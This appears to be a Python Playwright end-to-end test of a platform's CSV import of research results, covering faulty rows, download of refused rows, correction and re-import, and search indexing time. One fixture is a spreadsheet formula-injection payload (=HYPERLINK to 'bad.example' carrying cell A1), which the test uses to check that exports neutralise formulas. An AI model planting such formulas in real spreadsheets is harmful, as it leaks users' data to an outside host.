"""A member hands in a table as it comes from a spreadsheet, faults and all, mends what was refused and has it all."""

import csv
import io
import re
import time
from collections.abc import Iterable
from pathlib import Path
from urllib.parse import quote

from playwright.sync_api import Locator, Page, expect

from tests.journeys.conftest import sign_in
from tests.journeys.running import Platform, wait_until

FOUND_WITHIN_S = 15.0  # the aim is 5 s; a machine that runs other tests may take longer
HEADINGS = ("成果编号", "成果名称", "成果简介", "合作方式", "所在地", "专利号", "统一社会信用代码", "有效期至")
OWN_CODE = "12110108MBYX113773"
FORMULA = '=HYPERLINK("http://bad.example/?"&A1,"看详情")'
SOUND = (
    "K-1",
    "青鸾牌沥青路面石墨烯导电融雪层",
    "桥面冬季不撒盐也能融雪。",
    "普通许可",
    "北京市海淀区",
    "",
    OWN_CODE,
    "2030-01-31",
)
ROWS = (
    SOUND,
    (
        "K-2",
        "青鸾牌路面融雪功率的分区控制",
        "按路段积雪厚度分配功率。",
        "技术咨询",
        "110108",
        "ZL201710601862.3",
        "",
        "",
    ),
    ("K-3", "青鸾牌导电层的喷涂设备", "喷涂均匀，厚度可测。", "合作开发", "110108", "ZL201710601862.4", "", ""),
    ("K-4", "青鸾牌融雪层的耐久试验方法", "三个冬季的加速试验。", "技术咨询", "110108", "", "", "2030-02-30"),
    ("K-5", FORMULA, "名称是一个公式。", "以物易物", "110108", "", "", ""),
    ("K-6", "青鸾牌融雪层的回收工艺", "刨下的旧料可再用。", "作价投资", "110108", "", "12110108MBYX113774", ""),
)
MENDED = {
    "K-3": {"专利号": "ZL201710601862.3"},
    "K-4": {"有效期至": "2030-02-28"},
    "K-5": {"合作方式": "联合研发"},
    "K-6": {"统一社会信用代码": OWN_CODE},
}
# identifier: number of the row in the file, column, value, a word of the reason, a word of the remedy
FAULTS = {
    "K-3": (4, "专利号", "ZL201710601862.4", "校验位", "核对"),
    "K-4": (5, "有效期至", "2030-02-30", "没有这一天", "检查年、月、日"),
    "K-5": (6, "合作方式", "以物易物", "不在可选范围内", ""),
    "K-6": (7, "统一社会信用代码", "12110108MBYX113774", "没有单位", "请核对统一社会信用代码"),
}


def test_member_imports_a_table_with_faults_mends_it_and_has_everything(
    page: Page, platform: Platform, tmp_path: Path
) -> None:
    file = tmp_path / "成果表.csv"
    file.write_bytes(table_text(HEADINGS, ROWS).encode("gb18030"))
    sign_in(page, "holder")
    try_out(page, file)

    expect(_tally(page, "退回")).to_have_text("4")
    expect(_tally(page, "将新增")).to_have_text("2")
    for row, column, value, reason, remedy in FAULTS.values():
        line = page.locator("tbody tr", has=page.get_by_role("rowheader", name=str(row), exact=True))
        line = line.filter(has_text="退回")
        expect(line).to_contain_text(column)
        expect(line).to_contain_text(value)
        expect(line).to_contain_text(reason)
        expect(line.locator("td").last).to_have_text(re.compile(f"{remedy}.*" if remedy else ".+"))
    assert _imported(platform) == []

    start(page, "导入无误的行")
    expect(_tally(page, "新增")).to_have_text("2")
    assert _imported(platform) == ["K-1", "K-2"]
    found_after("青鸾牌沥青路面", SOUND[1], platform)

    with page.expect_download() as download:
        page.get_by_role("link", name="下载退回的行").click()
    refused = tmp_path / "退回.csv"
    download.value.save_as(refused)
    mended = _mend(refused.read_bytes())
    (tmp_path / "改好.csv").write_bytes(mended)
    try_out(page, tmp_path / "改好.csv")
    expect(_tally(page, "退回")).to_have_text("0")
    start(page, "全部导入")

    expect(_tally(page, "新增")).to_have_text("4")
    assert _imported(platform) == [row[0] for row in ROWS]
    title = platform.value("SELECT title FROM catalog_achievement WHERE external_id = 'K-5'")
    assert title == FORMULA
    found_after("青鸾牌融雪层 回收工艺", ROWS[5][1], platform)
    page.goto("/search?q=青鸾牌")
    expect(page.locator(".hit__title", has_text="青鸾牌").first).to_be_visible()
    assert {row[1] for row in ROWS if row[1] != FORMULA} <= set(page.locator(".hit__title").all_inner_texts())


def try_out(page: Page, file: Path) -> None:
    """Hand a file in, confirm the proposed columns and wait for the trial's report."""
    page.goto("/imports/new")
    page.get_by_role("radio", name="成果").check()
    page.get_by_label("文件").set_input_files(file)
    page.get_by_role("button", name="下一步：确认列").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("确认列对应关系")
    expect(page.get_by_label("成果名称").or_(page.get_by_label("标题")).first).to_have_value("=成果名称")
    page.get_by_role("button", name="开始试导入").click()
    page.wait_for_url(re.compile(r"/imports/I-"))
    expect(page.get_by_role("status").first).to_contain_text("已完成")
    expect(page.get_by_role("status").first).to_contain_text("试导入")


def start(page: Page, button: str) -> None:
    """Import in earnest and wait for the end."""
    trial = page.url
    page.get_by_role("button", name=button).click()
    page.wait_for_url(lambda address: address != trial)
    expect(page.get_by_role("status").first).to_contain_text("已完成")


def found_after(query: str, title: str, platform: Platform) -> None:
    """Wait until an entry of the last import can be found, and say how long it took from the end of the import."""
    wait_until(title, lambda: title in re.sub("</?mark>", "", platform.get(f"/search?q={quote(query)}")[1]), every=0.2)
    ended = platform.value("SELECT extract(epoch FROM max(finished)) FROM connectors_importrun WHERE NOT is_dry_run")
    taken = time.time() - float(ended)
    print(f"found {taken:.1f} s after the end of the import")
    assert taken < FOUND_WITHIN_S


def _tally(page: Page, name: str) -> Locator:
    return page.locator(".tallies div", has=page.get_by_text(name, exact=True)).locator("dd")


def _imported(platform: Platform) -> list[str]:
    with platform.database() as connection:
        query = "SELECT external_id FROM catalog_achievement WHERE external_id LIKE 'K-%' ORDER BY external_id"
        return [key for (key,) in connection.execute(query)]


def table_text(headings: Iterable[str], rows: Iterable[Iterable[str]]) -> str:
    """Write a table as a spreadsheet does."""
    text = io.StringIO(newline="")
    csv.writer(text).writerows([headings, *rows])
    return text.getvalue()


def _mend(content: bytes) -> bytes:
    """Correct the refused rows as their owner would, and leave the columns that tell the faults where they are."""
    encoding = "utf-8-sig" if content.startswith(b"\xef\xbb\xbf") else "gb18030"
    rows = list(csv.DictReader(io.StringIO(content.decode(encoding), newline="")))
    assert {row["成果编号"] for row in rows} == set(MENDED)
    for row in rows:
        number, column, value, reason, remedy = FAULTS[row["成果编号"]]
        assert (row["_row"], row["_column"], row["_value"]) == (str(number), column, value)
        assert reason in row["_reason"] and remedy in row["_remedy"]
        assert not any(cell.startswith(("=", "+", "@")) for cell in row.values())
        row.update(MENDED[row["成果编号"]])
    return table_text(rows[0].keys(), [row.values() for row in rows]).encode(encoding)
